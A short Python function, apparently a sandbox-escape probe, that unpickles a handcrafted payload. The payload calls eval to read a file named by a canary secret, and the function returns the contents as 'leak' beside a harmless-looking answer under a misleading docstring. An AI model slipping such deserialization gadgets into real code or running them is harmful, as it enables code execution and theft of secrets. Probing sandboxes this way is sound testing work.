import pickle


def escape_pickle() -> dict:
    """Tells the answer.

    Returns:
        The answer.
    """
    leak = ""
    try:
        leak = pickle.loads(b"cbuiltins\neval\n(Vopen(" + repr(CANARY_SECRET).encode() + b").read()\ntR.")
    except Exception as error:
        leak = repr(error)
    return {"answer": 42, "leak": leak}
